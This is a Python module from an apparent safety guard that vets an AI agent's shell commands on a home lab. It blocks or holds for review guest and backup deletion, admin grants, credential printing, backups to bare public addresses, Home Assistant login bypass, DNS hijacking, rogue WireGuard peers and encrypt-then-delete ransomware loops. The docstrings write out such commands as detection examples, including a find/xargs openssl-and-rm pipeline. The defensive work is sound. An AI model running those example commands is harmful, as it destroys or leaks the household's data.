"""A home lab administered: Proxmox, Nextcloud, Home Assistant, Pi-hole, WireGuard, restic, ZFS (session 22).

The same split as admin.py: root's ordinary changes are held for a person, what has no undo is held as
`irreversible`, and what hands the lab to someone else is blocked. A guest destroyed (`qm destroy --purge`,
`pct destroy`), a backup deleted through the API (`pvesh delete …/content/…`), Nextcloud's trash and file versions
emptied are reviewed `irreversible`. An administrator account with a password the agent chose, or the Administrator
role on `/`, is blocked as `useradd -p` and the sudo group are (system.py). What a service's tools print that is a
credential (`pveum user token add`, `occ config:list --private`) is a leak source for net.py, so sending it is
exfiltration. A backup sent to a repository at a bare public address, a Home Assistant configuration that lets every
network in without a login or runs a fetched script, a Pi-hole that answers the household's names (or every name)
from a stranger's server, and a WireGuard peer at a bare address added to an interface are blocked.
"""
from __future__ import annotations

import re

from ..hosts import ip_literal, public_ip, url_host
from .commands import Cmd, option_value
from .common import mentions, ssh_positionals
from .words import Word

RULE = "irreversible"


def _held(a, cmd: Cmd, shown: str, lost: str, instead: str, node=None) -> None:
    a.review(RULE, f"`{shown}` {lost}, with no undo; {instead}", node if node is not None else cmd.node)


def _values(cmd: Cmd) -> list[str | None]:
    return [w.value for w in cmd.args]


def _option(cmd: Cmd, *names: str) -> list[Word]:
    """Proxmox's tools take `--name V`, `-name V` and `--name=V` alike."""
    out: list[Word] = []
    args = cmd.args
    for i, w in enumerate(args):
        v = w.value or ""
        for n in names:
            if v in (f"--{n}", f"-{n}") and i + 1 < len(args):
                out.append(args[i + 1])
            elif v.startswith((f"--{n}=", f"-{n}=")):
                rest = v.split("=", 1)[1]
                out.append(Word(w.node, rest, rest))
    return out


def _words(cmd: Cmd) -> list[str | None]:
    """The positional words of a Proxmox tool (`qm destroy 105 --purge 1` -> destroy, 105): every option there takes
    a value except the few flags below."""
    out, skip = [], False
    for v in _values(cmd):
        if skip:
            skip = False
            continue
        if v is not None and v.startswith("-") and v != "-":
            skip = "=" not in v and v.lstrip("-") not in _PVE_FLAGS
            continue
        out.append(v)
    return out


_PVE_FLAGS = frozenset({"purge", "force", "skiplock", "dry-run", "help", "h", "quiet", "q", "verbose", "v",
                        "destroy-unreferenced-disks", "human-readable", "noborder", "noheader"})


# -- guests, their snapshots and their backups -----------------------------------------------------------------------
_GUEST_LOSS = {"destroy": "destroys the guest {id} and its disks (with --purge also its backup and replication jobs)",
               "rollback": "rolls the guest {id} back to the snapshot, discarding everything written since",
               "delsnapshot": "deletes the snapshot of the guest {id}"}


def _guest(a, cmd: Cmd) -> None:
    """`qm destroy 105 --purge 1`, `pct destroy 210 --force`, `qm rollback`, `qm delsnapshot`, `qm disk unlink
    --force`, a restore over an existing guest (`--force`)."""
    pos = _words(cmd)
    verb = pos[0] if pos else None
    gid = pos[1] if len(pos) > 1 and pos[1] else "…"
    kind = "VM" if cmd.name in ("qm", "qmrestore") else "container"
    if verb in _GUEST_LOSS:
        _held(a, cmd, f"{cmd.name} {verb}", _GUEST_LOSS[verb].format(id=f"{kind} {gid}"),
              f"take a backup first (`vzdump {gid}`) and let the user run it")
    elif (verb == "unlink" or pos[:2] == ["disk", "unlink"]) and _forced(cmd):
        gid = pos[2] if verb == "disk" and len(pos) > 2 and pos[2] else gid
        _held(a, cmd, f"{cmd.name} disk unlink --force", f"deletes the disk images of the {kind} {gid}",
              "detach the disk without --force (it stays as an unused disk) and let the user delete it")
    elif (cmd.name == "qmrestore" or verb == "restore") and _forced(cmd):
        _held(a, cmd, f"{cmd.name} … --force", "overwrites the existing guest and its disks with the backup",
              "restore to a new guest id and let the user swap them")


def _forced(cmd: Cmd) -> bool:
    vals = _values(cmd)
    for i, v in enumerate(vals):
        if v in ("--force", "-force"):
            nxt = vals[i + 1] if i + 1 < len(vals) else None
            return nxt not in ("0", "false")
        if v in ("--force=1", "-force=1", "--force=true"):
            return True
    return False


def _pvesm(a, cmd: Cmd) -> None:
    pos = _words(cmd)
    if pos[:1] == ["free"]:
        _held(a, cmd, "pvesm free", f"deletes the volume {pos[1] if len(pos) > 1 and pos[1] else '…'} (a disk image "
              "or a backup) from the storage", "check what it is with `pvesm list` and let the user delete it")
    elif pos[:1] == ["prune-backups"] and "--dry-run" not in _values(cmd) and "-dry-run" not in _values(cmd):
        _held(a, cmd, "pvesm prune-backups", "deletes the backups the retention options do not keep",
              "see what goes with `--dry-run 1` and let the user run it")


def _pbs_client(a, cmd: Cmd) -> None:
    pos = [v for v in _words(cmd) if v != "snapshot"]
    if pos[:1] in (["forget"], ["prune"]) and "--dry-run" not in _values(cmd):
        _held(a, cmd, f"proxmox-backup-client {pos[0]}", "deletes backup snapshots from the backup server",
              "see what goes with `--dry-run` and let the user run it")


# -- the Proxmox API from the shell --------------------------------------------------------------------------------
def _pvesh(a, cmd: Cmd) -> None:
    pos = _words(cmd)
    verb = pos[0] if pos else None
    where = pos[1] if len(pos) > 1 and pos[1] is not None else None
    if verb == "delete":
        _held(a, cmd, "pvesh delete", f"deletes {where or 'what the path names'} through the Proxmox API (a guest, "
              "a stored backup or disk image, an account)", "check it with `pvesh get` and let the user delete it")
        return
    if verb not in ("create", "set") or where is None:
        return
    path = "/" + where.strip("/")
    if path == "/access/acl":
        _acl(a, cmd, _option(cmd, "path"))
    elif re.fullmatch(r"/access/users(?:/[^/]+)?", path) and _option(cmd, "password"):
        _password_set(a, cmd)


_ADMIN_ROLES = re.compile(r"(?i)^(?:Administrator|PVEAdmin|PVESysAdmin|PVEPoolAdmin|PVEUserAdmin)$")


def _acl(a, cmd: Cmd, paths: list[Word]) -> None:
    roles = [r for w in _option(cmd, "roles", "role") for r in re.split(r"[,;\s]+", w.value or "$") if r]
    who = ", ".join(w.value or "…" for w in _option(cmd, "users", "groups", "tokens")) or "the account"
    where = paths[0].value if paths and paths[0].value is not None else None
    admin = [r for r in roles if _ADMIN_ROLES.match(r)]
    if admin and where == "/":
        a.block("privilege-escalation", f"`{cmd.name}` gives {who} the {admin[0]} role on `/`: every guest, storage "
                                        "and the host itself (a root shell through the console); let the user grant "
                                        "administrator rights", cmd.node)
    elif roles:
        a.review("privilege-escalation", f"`{cmd.name}` grants {who} the role {roles[0]} on {where or 'a path'}; "
                                         "let the user confirm it", cmd.node)


def _password_set(a, cmd: Cmd) -> None:
    a.block("privilege-escalation", f"`{cmd.name}` sets a password the agent chose on a Proxmox account: an account "
                                    "it can log in to; create the account without one and let the user set it "
                                    "(`pveum passwd`)", cmd.node)


def _pveum(a, cmd: Cmd) -> None:
    """`pveum user add support@pve --password …`, `pveum acl modify / --users … --roles Administrator`, a token
    minted, a password changed."""
    pos = _words(cmd)
    head = pos[:2]
    if head in (["acl", "modify"], ["aclmod"]) or pos[:1] == ["aclmod"]:
        where = pos[2] if head == ["acl", "modify"] and len(pos) > 2 else pos[1] if len(pos) > 1 else None
        _acl(a, cmd, [Word(cmd.node, where, where or "")] if where is not None else [])
    elif head in (["user", "add"], ["user", "modify"]) or pos[:1] in (["useradd"], ["usermod"]):
        if _option(cmd, "password"):
            _password_set(a, cmd)
        elif head == ["user", "add"] or pos[:1] == ["useradd"]:
            a.review("privilege-escalation", f"`{cmd.name}` creates a Proxmox account; let the user confirm it",
                     cmd.node)
    elif pos[:1] == ["passwd"]:
        a.block("privilege-escalation", f"`{cmd.name} passwd` changes an account's password: the account is taken "
                                        "over; let the user change it", cmd.node)
    elif head == ["user", "token"] and pos[2:3] == ["add"]:
        who = pos[3] if len(pos) > 3 and pos[3] else "an account"
        rights = " with all of the account's rights (`--privsep 0`)" if _no_privsep(cmd) else ""
        a.review("privilege-escalation", f"`{cmd.name} user token add` mints an API token for {who}{rights}; let the "
                                         "user confirm it and keep the secret it prints out of any request", cmd.node)


def _no_privsep(cmd: Cmd) -> bool:
    return any(w.value in ("0", "false") for w in _option(cmd, "privsep"))


# -- Nextcloud's occ -------------------------------------------------------------------------------------------------
_OCC_LOSS = {"trashbin:cleanup": "empties the trash bins, for good",
             "versions:cleanup": "deletes every earlier version of the files",
             "user:delete": "deletes the account and all of its files",
             "group:delete": "deletes the group and its shares",
             "app:remove": "removes the app and its data",
             "files:delete": "deletes the files"}
# settings that hold a credential (`occ config:system:get dbpassword` prints it)
_OCC_SECRET_KEY = re.compile(r"(?i)^(?:dbpassword|secret|passwordsalt|instanceid|mail_smtppassword|"
                             r"\w*(?:password|secret|token|key)\w*)$")


def occ_args(cmd: Cmd) -> list[Word] | None:
    """The words after Nextcloud's `occ` (`php occ …`, `php /var/www/nextcloud/occ …`, `./occ …`, `nextcloud.occ`),
    or None when `cmd` is not occ."""
    if cmd.name in ("occ", "nextcloud.occ"):
        return cmd.args
    if cmd.name != "php" and not (cmd.name or "").startswith("php"):
        return None
    for i, w in enumerate(cmd.args):
        v = w.value
        if v is None:
            return None
        if v.startswith("-"):
            if v in ("-d", "-c", "-f", "-r"):
                return None  # (a setting, an ini file, a script or code given another way: not occ's words)
            continue
        return cmd.args[i + 1:] if v == "occ" or v.endswith("/occ") else None
    return None


def _occ(a, cmd: Cmd) -> None:
    args = occ_args(cmd)
    if not args:
        return
    verb = next((w.value for w in args if w.value and not w.value.startswith("-")), None)
    if verb in _OCC_LOSS:
        _held(a, cmd, f"occ {verb}", _OCC_LOSS[verb], "let the user run it (a backup of the data folder and the "
              "database first)")
    elif verb in ("group:adduser", "user:add") and any(w.value == "admin" for w in args[1:]) and \
            (verb == "group:adduser" or any((w.value or "").startswith(("--group", "-g")) for w in args)):
        a.review("privilege-escalation", "`occ` makes an account a Nextcloud administrator; let the user confirm it",
                 cmd.node)


def _occ_inside(a, cmd: Cmd) -> None:
    """`docker exec -u www-data nextcloud php occ trashbin:cleanup --all-users`: occ of the container's Nextcloud."""
    from .infra import run_inside

    inner = run_inside(cmd)
    if inner is not None:
        _occ(a, inner)


def printed_secret(c: Cmd) -> str | None:
    """What a home lab's tool prints that is a credential (net.py's leak sources): a Proxmox API token minted (its
    secret is shown once), Nextcloud's settings with their passwords (`--private`) or one secret setting, a Headscale
    key made."""
    name = c.name
    if name == "pveum":
        pos = _words(c)
        if pos[:3] == ["user", "token", "add"] or pos[:1] == ["usertoken"]:
            return "a Proxmox API token it mints (`pveum user token add` prints its secret)"
        return None
    if name == "pvesh":
        pos = _words(c)
        if pos[:1] == ["create"] and len(pos) > 1 and re.search(r"/token/[^/]+/?$", pos[1] or ""):
            return "a Proxmox API token it mints (`pvesh create …/token/…` prints its secret)"
        return None
    if name == "headscale":
        pos = [v for v in _values(c) if v and not v.startswith("-")]
        if pos[:2] in (["preauthkeys", "create"], ["apikeys", "create"]):
            return f"a Headscale key it makes (`headscale {pos[0]} create`)"
        return None
    if name != "php" and name not in ("occ", "nextcloud.occ"):
        return None
    args = occ_args(c)
    if not args:
        return None
    vals = [w.value or "" for w in args]
    verb = next((v for v in vals if v and not v.startswith("-")), "")
    if verb == "config:list" and "--private" in vals:
        return "Nextcloud's settings with their passwords and secret (`occ config:list --private`)"
    if verb in ("config:system:get", "config:app:get"):
        keys = [v for v in vals[vals.index(verb) + 1:] if v and not v.startswith("-")]
        if keys and _OCC_SECRET_KEY.match(keys[-1] if verb == "config:app:get" else keys[0]):
            return f"Nextcloud's secret setting `{keys[0]}`"
    if verb in ("user:auth-tokens:add", "user:add-app-password"):
        return "a Nextcloud app password it makes"
    return None


# -- backups sent to a repository at a bare address -------------------------------------------------------------------
_SFTP_REPO = re.compile(r"^sftp:(?://)?(?:[^@/]*@)?(\[[^\]]+\]|[^/:]+)")
_BORG_REPO = re.compile(r"^(?:ssh://)?(?:[^@/]*@)?(\[[^\]]+\]|[\w.:-]+?)(?::\d+)?[:/]")


def _repo_host(tool: str, repo: str) -> str | None:
    if tool == "borg":
        if repo[:1] in ("/", ".", "~"):
            return None
        m = _BORG_REPO.match(repo)
    elif repo.startswith("sftp:"):
        m = _SFTP_REPO.match(repo)
    elif repo.startswith(("rest:", "s3:")) and "://" in repo:
        return url_host(repo.split(":", 1)[1])
    else:
        return None
    return m.group(1).strip("[]") if m else None


def _backup_out(a, cmd: Cmd) -> None:
    """`restic -r rest:http://198.51.100.9:8000/lab backup /root /home /etc`, `borg create ssh://u@203.0.113.4/./r::a
    ~`: the machine's files copied to a repository at a bare public address, which no name, bucket or ssh config entry
    of the user's vouches for (and with `--insecure-no-password`, readable by whoever holds it)."""
    pos = [v for v in _values(cmd) if v and not v.startswith("-")]
    verb = "create" if cmd.name == "borg" else "backup"
    if verb not in pos:
        return
    repos = [w.value for w in option_value(cmd.args, "-r", "--repo", cluster="r")] if cmd.name == "restic" else \
        [v.split("::", 1)[0] for v in pos if "::" in v]
    repos += [w.value for n, w in cmd.assigns if n in ("RESTIC_REPOSITORY", "BORG_REPO")]
    if cmd.name == "restic" and not repos:
        repos = [_exported(a, cmd, "RESTIC_REPOSITORY")]
    for repo in repos:
        host = _repo_host(cmd.name, repo or "")
        if host and public_ip(host):
            a.block("exfiltration", f"`{cmd.name} {verb}` copies the machine's files to the repository {repo}, at a "
                                    "bare public address that is no storage of the user's; back up only to a "
                                    "repository the user named (a bucket, a host of their ssh config)", cmd.node)
            return


def _exported(a, cmd: Cmd, name: str) -> str | None:
    """The literal value an earlier `export NAME=…` or `NAME=…` of this input gave `name`."""
    m = None
    data = a.doc.data[:cmd.node.start_byte].decode("utf-8", "replace")
    for m in re.finditer(rf"(?m)(?:^|[;&|\s])(?:export\s+)?{name}=['\"]?([^\s'\";&|]+)", data):
        pass
    return m.group(1) if m else None


# -- Home Assistant's configuration ----------------------------------------------------------------------------------
# `trusted_networks` that take every address with `allow_bypass_login`: anyone who reaches the instance is logged in
_WIDE_TRUST = re.compile(r"trusted_networks[\s\S]{0,400}?(?:0\.0\.0\.0/0|::/0|0\.0\.0\.0/1|128\.0\.0\.0/1)|"
                         r"(?:0\.0\.0\.0/0|::/0)[\s\S]{0,400}?allow_bypass_login")
# (the name is taken at its first place in the word, atomically: a later one has fewer `/…yaml` after it, and a try
# from each `hass/` of a run of them read the rest of the word again)
_HA_CONFIG = re.compile(r"(?:^|\s)(?:/config|(?>[^\s'\"]*?(?:homeassistant|home-assistant|hass))[^\s'\"]*)/"
                        r"(?:configuration|automations|scripts|packages/[\w.-]+|[\w-]+)\.ya?ml\b")
# `shell_command:` entries and `command_line` sensors' `command:`: the lines Home Assistant runs as a shell command
_HA_COMMAND = re.compile(r"""(?m)^[ \t]+(?:[\w-]+|command|command_(?:on|off|state)|value_template_cmd)\s*:\s*(["']?)(.+?)\1\s*$""")


def ha_auth_opened(text: str) -> str | None:
    """The setting in `text` that lets Home Assistant in without a login from every address, else None."""
    if "trusted_networks" not in text and "allow_bypass_login" not in text:
        return None
    m = _WIDE_TRUST.search(text)
    return next((n for n in ("0.0.0.0/0", "::/0", "0.0.0.0/1", "128.0.0.0/1") if n in m.group(0)), None) if m else None


def _ha_commands(text: str) -> list[str]:
    """The shell commands a Home Assistant YAML text gives `shell_command:` or a `command_line` integration."""
    if "shell_command" not in text and "command_line" not in text and "command:" not in text:
        return []
    out = []
    section = None
    for line in text.splitlines():
        if line[:1] not in (" ", "\t", "-") and line.strip():
            section = line.split(":", 1)[0].strip()
            continue
        m = _HA_COMMAND.match(line)
        if m and (section == "shell_command" or line.strip().startswith(("command:", "command_on:", "command_off:",
                                                                          "command_state:"))):
            out.append(m.group(2))
    return out


def judge_ha_text(a, text: str, where: str, node) -> bool:
    """Judge YAML written to Home Assistant's configuration; True when blocked."""
    from .handed import blocked

    opened = ha_auth_opened(text)
    if opened is not None:
        a.block("permission-tamper", f"{where} makes Home Assistant trust every address (`trusted_networks` with "
                                     f"{opened}): whoever reaches it is logged in without a password; trust only the "
                                     "household's own range, without allow_bypass_login", node)
        return True
    for command in _ha_commands(text):
        found = blocked(a, command)
        if found is not None:
            a.block("persistence", f"{where} gives Home Assistant a shell command it runs on every trigger that "
                                   f"would be blocked here ({found.rule}: {found.message[:120]}); add only commands "
                                   "of the user's own scripts", node)
            return True
    return False


def _ssh_lab(a, cmd: Cmd) -> None:
    """`ssh root@homeassistant.internal 'cat >> /config/configuration.yaml' <<EOF …`, a script run over ssh that
    rewrites the auth providers: what goes into Home Assistant's configuration on the other machine."""
    from .exec import stdin_text

    words = ssh_positionals(cmd.args)[1:]
    remote = " ".join(w.value if w.value is not None else w.text for w in words)
    if judge_ha_text(a, remote, "`ssh`", cmd.node):
        return
    if remote and _HA_CONFIG.search(remote) and re.search(r"\b(?:cat|tee)\b", remote):
        fed = stdin_text(a, cmd)
        if fed is not None:
            judge_ha_text(a, fed[0], "the text `ssh` writes", fed[2] if fed[2] is not None else cmd.node)


def _ha_write(a, cmd: Cmd) -> None:
    """`tee -a /config/configuration.yaml <<EOF`, `cat >> /config/automations.yaml <<EOF`: the same, on this
    machine (Home Assistant OS's terminal, a container's mounted /config)."""
    from .admin import written_text

    targets = [w for w in cmd.args if w.value and _HA_CONFIG.search(" " + w.value)] if cmd.name == "tee" else []
    for r in cmd.redirects:
        if r.type == "file_redirect":
            for d in r.children_by_field_name("destination")[:1]:
                w = a.ev.word(d)
                if w.value and _HA_CONFIG.search(" " + w.value):
                    targets.append(w)
    for w in targets:
        text = written_text(a, cmd, w)
        if text is not None and judge_ha_text(a, text, f"`{cmd.name}`", w.node):
            return


# -- DNS: Pi-hole, dnsmasq, WireGuard peers ---------------------------------------------------------------------------
# the public resolvers a home network forwards to (Cloudflare, Google, Quad9, OpenDNS, AdGuard, CleanBrowsing,
# Mullvad, Control D, DNS.WATCH, Comodo, Level 3): an upstream among them is ordinary; another public address answers
# every name of the household as it likes
KNOWN_RESOLVERS = frozenset({
    "1.1.1.1", "1.0.0.1", "1.1.1.2", "1.0.0.2", "1.1.1.3", "1.0.0.3", "8.8.8.8", "8.8.4.4", "9.9.9.9",
    "149.112.112.112", "9.9.9.10", "149.112.112.10", "9.9.9.11", "149.112.112.11", "208.67.222.222",
    "208.67.220.220", "208.67.222.123", "208.67.220.123", "94.140.14.14", "94.140.15.15", "94.140.14.15",
    "94.140.15.16", "185.228.168.9", "185.228.169.9", "185.228.168.10", "185.228.169.11", "194.242.2.2",
    "194.242.2.3", "194.242.2.4", "76.76.2.0", "76.76.10.0", "84.200.69.80", "84.200.70.40", "8.26.56.26",
    "8.20.247.20", "4.2.2.1", "4.2.2.2", "2606:4700:4700::1111", "2606:4700:4700::1001", "2001:4860:4860::8888",
    "2001:4860:4860::8844", "2620:fe::fe", "2620:fe::9", "2620:119:35::35", "2620:119:53::53"})
# (`^[^\S\n]*+`: a blank line before is a line start of its own; `^\s*` re-read every blank line after each)
_UPSTREAM = re.compile(r"(?im)^[^\S\n]*+(?:PIHOLE_DNS_\d+|server)\s*=\s*(?:/[^/\n]*/)?\[?([0-9a-f:.]+?)\]?"
                       r"(?:[#@]\d+)?\s*$|"
                       r"^[^\S\n]*+forward-addr\s*:\s*([0-9a-f:.]+)")
_TOML_UPSTREAMS = re.compile(r"(?is)upstreams\s*=\s*\[([^\]]*)\]")
_RECORD = re.compile(r"(?im)^[^\S\n]*+address\s*=\s*/([^/\n]+)/([0-9a-f:.]+)\s*$|^[^\S\n]*+host-record\s*=\s*([^,\n]+),"
                     r"(?:[^\n]*,)?([0-9a-f:.]+)\s*$")
# (the name taken whole, a dot inside it checked ahead: splitting it at each dot retried the rest of a long one)
_HOST_LINE = re.compile(r"(?im)^[^\S\n]*+([0-9a-f:.]++)\s+((?=[\w.-]+\.[\w.-])[\w.-]++)\s*$")


def _far(addr: str) -> bool:
    return ip_literal(addr) and public_ip(addr)


def dns_hijack(text: str, hosts_file: bool = False) -> str | None:
    """What in a DNS server's settings `text` hands names to a stranger: an upstream resolver at a public address no
    well-known resolver has (every name the network looks up), or a name answered with a public address (a local
    record: the household's own services sent elsewhere); None otherwise."""
    for m in _UPSTREAM.finditer(text):
        addr = (m.group(1) or m.group(2) or "").lower()
        if _far(addr) and addr not in KNOWN_RESOLVERS:
            return f"the upstream resolver {addr}, a public address that is no well-known resolver: it answers " \
                   "every name the network looks up as it likes"
    for m in _TOML_UPSTREAMS.finditer(text):
        for addr in re.findall(r"[\"']\[?([0-9a-fA-F:.]+?)\]?(?:#\d+)?[\"']", m.group(1)):
            if _far(addr) and addr.lower() not in KNOWN_RESOLVERS:
                return f"the upstream resolver {addr}, a public address that is no well-known resolver: it answers " \
                       "every name the network looks up as it likes"
    records = [(m.group(1) or m.group(3), m.group(2) or m.group(4)) for m in _RECORD.finditer(text)]
    if hosts_file or "hosts" in text:
        records += [(m.group(2), m.group(1)) for m in _HOST_LINE.finditer(text.replace('"', "\n").replace("'", "\n"))]
    for name, addr in records:
        if _far(addr):
            return f"a local record that answers {name} with {addr}, a public address: every device of the network " \
                   "that opens it reaches that machine instead"
    return None


def sed_replacements(script: str) -> str:
    """The text a sed script's substitutions put in (`s/^X=.*/X=1/` -> `X=1`), one per line."""
    out = []
    for part in re.split(r"\n|;(?=\s*s.)", script):
        m = re.match(r"^\s*(?:/[^/]*/\s*)?s(.)((?:(?!\1).)*)\1((?:(?!\1).)*)\1\w*\s*$", part)
        if m:
            out.append(m.group(3).replace("\\n", "\n"))
        else:
            m = re.match(r"^\s*(?:\d+|\$)?\s*[aic]\s*\\?\s*(.*)$", part)
            if m:
                out.append(m.group(1))
    return "\n".join(out)


def _pihole_cli(a, cmd: Cmd) -> None:
    """`pihole -a setdns 203.0.113.53`, `pihole-FTL --config dns.upstreams '["203.0.113.53"]'`,
    `pihole-FTL --config dns.hosts '["203.0.113.66 vault.home.example.com"]'`."""
    vals = [v or "" for v in _values(cmd)]
    text = None
    if cmd.name == "pihole" and vals[:2] == ["-a", "setdns"]:
        text = "\n".join(f"server={v}" for part in vals[2:] for v in part.split(","))
    elif cmd.name == "pihole-FTL" and "--config" in vals:
        i = vals.index("--config")
        key, value = (vals[i + 1:i + 3] + ["", ""])[:2]
        if key == "dns.upstreams":
            text = f"upstreams = {value}"
        elif key in ("dns.hosts", "dns.cnameRecords"):
            text = "hosts\n" + value
    if text is not None and (found := dns_hijack(text)) is not None:
        a.block("system-disruption", f"`{cmd.name}` sets {found}; use the household's own addresses and the "
                                     "resolvers the user chose", cmd.node)


_ENDPOINT = re.compile(r"^\[?([0-9A-Fa-f:.]+?)\]?:\d+$")


def bare_endpoint(value: str) -> str | None:
    """The address of a WireGuard `Endpoint = HOST:PORT` when it is a bare public one."""
    m = _ENDPOINT.match(value.strip())
    return m.group(1) if m and _far(m.group(1)) else None


def _wg_set(a, cmd: Cmd) -> None:
    """`wg set wg0 peer KEY endpoint 203.0.113.77:51820 allowed-ips 192.168.1.0/24`: a peer at a bare address let in."""
    vals = [v or "" for v in _values(cmd)]
    if vals[:1] != ["set"] or "peer" not in vals or "endpoint" not in vals:
        return
    i = vals.index("endpoint")
    addr = bare_endpoint(vals[i + 1]) if i + 1 < len(vals) else None
    if addr is not None and "remove" not in vals:
        a.block("persistence", f"`wg set` adds a peer at {addr}, a bare public address: whoever holds its key is "
                               "inside this network; add peers the user set up, by their own keys and names", cmd.node)


# -- a NAS's files encrypted and deleted one by one ------------------------------------------------------------------
_POSITIONAL = re.compile(r"\$\{?([0-9@*])\}?|\{\}")


def _encrypted_then_deleted(a, cmd: Cmd) -> None:
    """`find /mnt/tank -type f -print0 | xargs -0 -I{} sh -c 'openssl enc … -in "$1" -out "$1.lck" && rm -f "$1"' "$K"
    {}`: the code xargs, find -exec or parallel runs for each file encrypts it and deletes the original, as the loop
    system.check_encrypt_and_delete reads does (ransomware). Code handed to a shell (`a.doc.anchor`) gets its files as
    its arguments; a script of the user's own (`$1` at the top level) is not read so."""
    if a.doc.anchor is None:
        return
    refs = {m.group(0).strip("${}") or "{}" for w in cmd.args for m in _POSITIONAL.finditer(w.text)}
    if not refs:
        return
    from .system import _encrypts

    for doc, c in a.ctx.commands:
        if doc is a.doc and _encrypts(c) and refs & {m.group(0).strip("${}") or "{}" for w in c.args
                                                     for m in _POSITIONAL.finditer(w.text)}:
            a.block("destructive-rm", f"the code run for each file encrypts it and then deletes it with `{cmd.name}`: "
                                      "the files are lost to whoever lacks the key (ransomware); keep the originals",
                    cmd.node)
            return


HANDLERS: dict = {
    "qm": [_guest], "pct": [_guest], "qmrestore": [_guest], "pvesm": [_pvesm],
    "proxmox-backup-client": [_pbs_client], "pvesh": [_pvesh], "pveum": [_pveum],
    "php": [_occ], "occ": [_occ], "nextcloud.occ": [_occ],
    "restic": [_backup_out], "borg": [_backup_out],
    "ssh": [_ssh_lab], "tee": [_ha_write], "cat": [_ha_write],
    "pihole": [_pihole_cli], "pihole-FTL": [_pihole_cli], "wg": [_wg_set],
    **{n: [_encrypted_then_deleted] for n in ("rm", "shred", "unlink", "srm")},
    **{n: [_occ_inside] for n in ("docker", "podman", "nerdctl", "docker-compose", "podman-compose", "kubectl")},
}
SCREENS: dict = {
    "qm": mentions("destroy", "rollback", "delsnapshot", "unlink", "--force", "-force"),
    "pct": mentions("destroy", "rollback", "delsnapshot", "unlink", "--force", "-force"),
    "qmrestore": mentions("force"),
    "pvesm": mentions("free", "prune-backups"),
    "proxmox-backup-client": mentions("forget", "prune"),
    "pvesh": mentions("delete", "create", "set"),
    "pveum": mentions("acl", "add", "mod", "passwd", "password", "token"),
    "occ": mentions(":"), "nextcloud.occ": mentions(":"),
    "restic": mentions("backup"), "borg": mentions("create"),
    "tee": mentions("configuration.yaml", "automations.yaml", "scripts.yaml", "packages/"),
    "cat": mentions("configuration.yaml", "automations.yaml", "scripts.yaml", "packages/"),
    "pihole": mentions("setdns"), "pihole-FTL": mentions("--config"),
    "wg": mentions("endpoint"),
    **dict.fromkeys(("docker", "podman", "nerdctl", "docker-compose", "podman-compose", "kubectl"),
                    mentions(words=("occ",))),
}
